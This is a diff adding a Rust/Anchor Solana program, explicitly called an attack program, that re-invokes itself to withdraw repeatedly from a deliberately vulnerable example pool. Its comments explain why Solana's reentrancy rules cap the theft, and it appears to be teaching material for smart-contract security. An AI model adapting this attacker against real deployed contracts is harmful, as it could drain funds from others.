@@ -0,0 +1,126 @@
+use anchor_lang::prelude::*;
+use anchor_lang::solana_program::{instruction::Instruction, program::invoke};
+use anchor_lang::InstructionData;
+use reentrancy_risk::vulnerable;
+
+// ============================================================================
+// ATTACK PROGRAM: Reentrant caller for reentrancy_risk
+// ============================================================================
+//
+// WHAT IT IS:
+// The attacker the reentrancy example describes. `attack` withdraws through
+// `withdraw_vulnerable`, then - where a token transfer hook would call back -
+// invokes itself to withdraw again, up to `depth` more times.
+//
+// WHAT IT SHOWS:
+// Solana lets a program be re-entered only directly, by itself. The pool
+// can't be called back while its own transfer is running (A -> B -> A fails
+// with ReentrancyNotAllowed), and SPL Token has no hooks to try it from. So
+// each withdrawal here finishes - balance update included - before the next
+// one starts, and the total taken is capped by the recorded balance. The
+// Interactions-before-Effects ordering is only exploitable where a callee
+// can call back in.
+//
+// ACCOUNTS:
+// The first six are `withdraw_vulnerable`'s, forwarded as-is; the
+// `pool_signer` signature on the outer transaction carries through.
+// `withdraw_safe` needs the owner's signature and PDA-derived accounts
+// instead - see the tests for what a re-entered call to it runs into.
+//
+// CPI DEPTH:
+// The runtime allows four levels of nested invokes. Each re-entry uses one,
+// and the withdraw and its token transfer use two more below it, so at most
+// MAX_DEPTH re-entries fit.
+//
+// NEVER deploy this anywhere but a local test validator.
+// ============================================================================
+
+declare_id!("ReentrancyAttacker1111111111111111111111111");
+
+/// Most times `attack` calls itself back
+pub const MAX_DEPTH: u8 = 2;
+
+#[program]
+pub mod reentrancy_attacker {
+    use super::*;
+
+    /// Withdraw `amount`, then re-enter and withdraw it again `depth` times
+    pub fn attack(ctx: Context<Attack>, amount: u64, depth: u8) -> Result<()> {
+        require!(depth <= MAX_DEPTH, CustomError::DepthTooLarge);
+        let accounts = &ctx.accounts;
+
+        let mut withdraw_accounts = vulnerable::accounts::WithdrawVulnerable {
+            pool: accounts.pool.key(),
+            user_deposit: accounts.user_deposit.key(),
+            pool_token: accounts.pool_token.key(),
+            user_token: accounts.user_token.key(),
+            pool_signer: accounts.pool_signer.key(),
+            token_program: accounts.token_program.key(),
+        }
+        .to_account_metas(None);
+        withdraw_accounts[4].is_signer = accounts.pool_signer.is_signer;
+        invoke(
+            &Instruction {
+                program_id: vulnerable::ID,
+                accounts: withdraw_accounts,
+                data: vulnerable::instruction::WithdrawVulnerable { amount }.data(),
+            },
+            &accounts.to_account_infos(),
+        )?;
+        msg!("Withdrew {} with {} re-entries left", amount, depth);
+
+        // The hook position: call back in before this level returns
+        if depth > 0 {
+            let mut attack_accounts = accounts.to_account_metas(None);
+            attack_accounts[4].is_signer = accounts.pool_signer.is_signer;
+            invoke(
+                &Instruction {
+                    program_id: crate::ID,
+                    accounts: attack_accounts,
+                    data: crate::instruction::Attack {
+                        amount,
+                        depth: depth - 1,
+                    }
+                    .data(),
+                },
+                &accounts.to_account_infos(),
+            )?;
+        }
+
+        Ok(())
+    }
+}
+
+#[derive(Accounts)]
+pub struct Attack<'info> {
+    /// Forwarded to withdraw_vulnerable
+    #[account(mut)]
+    pub pool: AccountInfo<'info>,
+
+    #[account(mut)]
+    pub user_deposit: AccountInfo<'info>,
+
+    #[account(mut)]
+    pub pool_token: AccountInfo<'info>,
+
+    #[account(mut)]
+    pub user_token: AccountInfo<'info>,
+
+    pub pool_signer: AccountInfo<'info>,
+
+    pub token_program: AccountInfo<'info>,
+
+    /// The program under attack
+    #[account(address = vulnerable::ID)]
+    pub target_program: AccountInfo<'info>,
+
+    /// This program, to call back into
+    #[account(address = crate::ID)]
+    pub attacker_program: AccountInfo<'info>,
+}
+
+#[error_code]
+pub enum CustomError {
+    #[msg("Re-entry depth exceeds what the CPI stack allows")]
+    DepthTooLarge,
+}